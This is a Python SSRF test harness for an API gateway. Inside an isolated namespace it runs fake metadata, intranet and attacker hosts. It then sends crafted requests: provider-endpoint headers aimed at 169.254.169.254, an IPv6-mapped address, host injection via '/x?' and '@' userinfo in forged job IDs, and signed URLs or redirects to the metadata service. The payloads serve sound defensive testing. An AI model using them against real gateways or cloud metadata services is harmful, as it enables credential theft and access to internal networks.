"""The SSRF lab: run inside a loopback-only network namespace (``tests/security/test_ssrf.py`` starts it
with ``unshare -n``), never on the host's network.

Inside, ``lo`` also carries a fake cloud metadata service (169.254.169.254:80, answering IAM credentials)
and an intranet host (10.23.0.5:80). Both count every request they receive. An "attacker" upstream on
198.51.100.7:8080 plays a custom host the operator allowed, and answers with whatever a scenario needs
(a signed URL to the metadata service, a redirect, …). A team upstream on 127.0.0.1 stands for the real
provider behind a stored connection. The gateway runs in this process, on real sockets.

Each scenario prints one JSON line: its name, the gateway's status and error code, and how many
requests each fake host received. The test asserts on those lines.
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import requests
from aiohttp import web

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from tests.gateway import Gateway  # noqa: E402
from tests.standins.openai_like import ServerThread  # noqa: E402

METADATA = "169.254.169.254"
INTRANET = "10.23.0.5"
ATTACKER = "198.51.100.7"
SECRET_ROLE = '{"AccessKeyId": "ASIAFAKEMETADATA", "SecretAccessKey": "stolen-by-ssrf"}'


class Recorder:
    """A fake host: records each request (method, path, headers) and answers a fixed body."""

    def __init__(self, name: str, routes: dict[str, Any] | None = None) -> None:
        self.name = name
        self.hits: list[dict[str, Any]] = []
        self.routes = routes or {}

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self.handle)
        return app

    async def handle(self, request: web.Request) -> web.StreamResponse:
        await request.read()
        self.hits.append({"method": request.method, "path": request.path_qs, "headers": dict(request.headers)})
        for suffix, answer in self.routes.items():
            if request.path.endswith(suffix):
                return answer(request) if callable(answer) else web.json_response(answer)
        return web.Response(text=SECRET_ROLE, content_type="application/json")


def _b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).rstrip(b"=").decode()


def main() -> None:
    for address in (METADATA, INTRANET, ATTACKER):
        subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", "lo"], check=True)
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)

    metadata, intranet = Recorder("metadata"), Recorder("intranet")
    signed = f"http://{METADATA}/latest/meta-data/iam/security-credentials/role"
    attacker = Recorder("attacker", {
        ":getDownloadEndpoint": {"filenameToSignedUrls": {"train.jsonl": signed}},
        ":getUploadEndpoint": lambda r: web.json_response({"filenameToSignedUrls": {
            "train.jsonl": signed}}),
        "/datasets": {"name": "accounts/acct/datasets/file-x", "state": "UPLOADING"},
        "/redirect/fine_tuning/jobs": lambda r: web.Response(status=302, headers={"Location": f"http://{METADATA}/"}),
    })
    team = Recorder("team", {"/fine_tuning/jobs": {"object": "list", "data": [], "has_more": False}})

    servers = [ServerThread(metadata.app(), host=METADATA, port=80), ServerThread(intranet.app(), host=INTRANET, port=80),
               ServerThread(attacker.app(), host=ATTACKER, port=8080), ServerThread(team.app())]
    for server in servers:
        server.__enter__()
    team_url = servers[3].url

    from tunegate.providers.fireworks import Fireworks

    Fireworks.small_upload_max = 1  # every upload takes the signed-URL path

    data = Path(tempfile.mkdtemp())
    allowed = ["127.0.0.1", "localhost", "::1", ATTACKER]
    with Gateway(data / "gw", allowed_custom_hosts=allowed) as gw:
        def scenario(name: str, method: str, path: str, headers: dict[str, str], **kw: Any) -> None:
            for r in (metadata, intranet, attacker, team):
                r.hits.clear()
            resp = requests.request(method, gw.url + path, headers=headers, timeout=30, **kw)
            try:
                error = resp.json().get("error") or {}
            except ValueError:
                error = {}
            print(json.dumps({
                "name": name, "status": resp.status_code, "code": error.get("code"),
                "body_has_secret": "stolen-by-ssrf" in resp.text,
                "hits": {r.name: len(r.hits) for r in (metadata, intranet, attacker, team)},
                "attacker_saw_team_key": any("sk-team-secret" in json.dumps(h["headers"]) for h in attacker.hits),
            }), flush=True)

        open_azure = {"x-portkey-provider": "azure-openai", "x-portkey-api-key": "sk-caller"}
        scenario("azure_endpoint_metadata", "GET", "/v1/fine_tuning/jobs",
                 {**open_azure, "x-portkey-azure-endpoint": f"http://{METADATA}"})
        scenario("azure_endpoint_intranet_delete", "DELETE", "/v1/files/file-abc",
                 {**open_azure, "x-portkey-azure-endpoint": f"http://{INTRANET}"})
        scenario("azure_endpoint_mapped_v6", "GET", "/v1/fine_tuning/jobs",
                 {**open_azure, "x-portkey-azure-endpoint": f"http://[::ffff:{METADATA}]"})
        scenario("azure_resource_name_host", "GET", "/v1/fine_tuning/jobs",
                 {**open_azure, "x-portkey-azure-resource-name": f"{METADATA}/x?"})
        vertex = {"x-portkey-provider": "vertex-ai", "x-portkey-api-key": "ya29.caller",
                  "x-portkey-vertex-project-id": "proj-1"}
        scenario("vertex_region_host", "GET", "/v1/fine_tuning/jobs",
                 {**vertex, "x-portkey-vertex-region": f"{METADATA}/x?"})
        forged = "ftjob-" + _b64(f"projects/p/locations/{METADATA}:80/x?/tuningJobs/1")
        scenario("vertex_job_location", "GET", f"/v1/fine_tuning/jobs/{forged}", vertex)
        forged_at = "ftjob-" + _b64(f"projects/p/locations/x@{INTRANET}/tuningJobs/1")
        scenario("vertex_job_location_userinfo", "POST", f"/v1/fine_tuning/jobs/{forged_at}/cancel", vertex)
        fireworks = {"x-portkey-provider": "fireworks-ai", "x-portkey-api-key": "fw-caller",
                     "x-portkey-fireworks-account-id": "acct",
                     "x-portkey-custom-host": f"http://{ATTACKER}:8080/v1"}
        scenario("fireworks_signed_download", "GET", "/v1/files/file-x/content", fireworks)
        scenario("fireworks_signed_upload", "POST", "/v1/files", fireworks,
                 data={"purpose": "fine-tune"},
                 files={"file": ("train.jsonl", b'{"messages": [{"role": "user", "content": "hi"}, '
                                                b'{"role": "assistant", "content": "yo"}]}\n')})
        scenario("redirect_to_metadata", "GET", "/v1/fine_tuning/jobs",
                 {"x-portkey-provider": "openai", "x-portkey-api-key": "sk-caller",
                  "x-portkey-custom-host": f"http://{ATTACKER}:8080/redirect"})
        alice = _setup_keys(gw, team_url)  # from here on the gateway needs keys
        keyed = {"x-portkey-provider": "openai", "x-portkey-api-key": alice}
        scenario("connection_custom_host", "GET", "/v1/fine_tuning/jobs",
                 {**keyed, "x-portkey-custom-host": f"http://{ATTACKER}:8080/v1"})
        scenario("connection_listed_custom_host", "GET", "/v1/fine_tuning/jobs",
                 {**keyed, "x-portkey-virtual-key": "team-open", "x-portkey-custom-host": f"http://{ATTACKER}:8080/v1"})
        scenario("connection_option_locked", "GET", "/v1/fine_tuning/jobs",
                 {**keyed, "x-portkey-openai-organization": "org-evil"})
        scenario("connection_own_host", "GET", "/v1/fine_tuning/jobs", keyed)
    for server in servers:
        server.__exit__(None, None, None)


def _setup_keys(gw: Gateway, team_url: str) -> str:
    """A team connection (its key must stay with its host) and one that lists the attacker as allowed."""

    async def work(store: Any) -> str:
        await store.add_connection("team", "openai", {"api_key": "sk-team-secret"}, team_url + "/v1",
                                   {"openai_organization": "org-team"})
        await store.add_connection("team-open", "openai", {"api_key": "sk-team-secret"}, team_url + "/v1",
                                   {"allowed_client_hosts": [ATTACKER]})
        _key, full = await store.create_key("alice", ["team", "team-open"])
        return str(full)

    return gw.with_store(work)


if __name__ == "__main__":
    main()
